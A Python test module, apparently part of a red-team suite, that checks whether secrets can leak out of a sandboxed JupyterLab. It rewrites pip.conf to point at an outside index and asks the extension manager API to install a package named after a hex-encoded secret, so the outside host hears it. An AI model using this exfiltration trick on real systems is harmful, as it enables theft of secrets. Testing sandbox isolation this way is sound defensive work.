from __future__ import annotations

from tests.redteam.channel import channel
from tests.redteam.targets import Target

CONFIGURE = """
import os
folder = os.path.expanduser("~/.config/pip")
os.makedirs(folder, exist_ok=True)
open(os.path.join(folder, "pip.conf"), "w").write(
    "[global]\\nindex-url = http://{address}:{port}/simple\\ntimeout = 2\\nretries = 0\\n")
"""


@channel(
    "extension-manager",
    "JupyterLab's extension manager, told to install a package that is named so from the attacker's index",
    closed_by="policy table: the extension manager is denied; a desk reaches nothing outside",
    stock="this image has no pip",
)
def attack(site: Target, secret: bytes) -> bytes | None:
    for address in site.outside.addresses:
        site.run(CONFIGURE.format(address=address, port=site.outside.port))
        body = {"cmd": "install", "extension_name": secret.hex()}
        site.ask("POST", "lab/api/extensions", body)
        if heard := site.outside.hears(secret.hex().encode(), 0.1):
            return heard
    return None
